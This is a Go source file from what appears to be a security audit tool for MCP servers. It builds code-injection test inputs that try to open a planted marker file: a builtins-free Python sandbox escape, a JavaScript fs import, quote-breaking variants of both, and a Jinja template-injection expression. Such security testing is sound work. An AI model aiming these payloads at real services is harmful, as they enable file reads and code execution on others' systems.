package attack

import (
	"strings"

	"github.com/mcpaudit/mcpaudit/runner/inputs"
)

// Expressions that open a planted file when they are evaluated, and are an odd text to all
// else. That of Python needs no builtins, for who takes those away thinks that eval is safe.
const (
	python     = `[c for c in ().__class__.__base__.__subclasses__() if c.__name__=="_wrap_close"][0].__init__.__globals__["open"]("!",0)`
	javaScript = `import("fs").then(f=>f.readFileSync("!"))`
)

// codeForms are the ways to write an expression into a value.
var codeForms = []form{
	evaluated("as an expression of Python", python),
	evaluated("as an expression of JavaScript", javaScript),
	evaluated("behind a single quote, as an expression of JavaScript", "'+"+javaScript+"+'"),
	evaluated("behind a double quote, as an expression of JavaScript", `"+`+strings.ReplaceAll(javaScript, `"`, "'")+`+"`),
	evaluated("behind a single quote, as an expression of Python", "'+str("+python+")+'"),
	evaluated("behind a double quote, as an expression of Python", `"+str(`+strings.ReplaceAll(python, `"`, "'")+`)+"`),
	evaluated("in a template of JavaScript", "${"+javaScript+"}"),
	evaluated("in a template of Jinja", `{{ cycler.__init__.__globals__.os.open("!",0) }}`),
}

// maxCode is how many attempts of family Code there are against one target, maxCodeFields
// at how many places.
const (
	maxCode       = 16
	maxCodeFields = 2
)

// codeSteps are the attempts of family Code.
func codeSteps(fields []field) (all []step) {
	for _, form := range codeForms {
		for i, field := range fields {
			if i < maxCodeFields && field.text && len(all) < maxCode {
				all = append(all, step{family: Code, form: form, field: field})
			}
		}
	}
	return all
}

// evaluated is a form by its expression: "!" stands for the file.
func evaluated(name, expression string) form {
	return form{name: name, write: func(f field, _ inputs.Mark, number int) string {
		return f.before + strings.ReplaceAll(expression, "!", inputs.OutsideFile(number, ".txt")) + f.behind
	}}
}
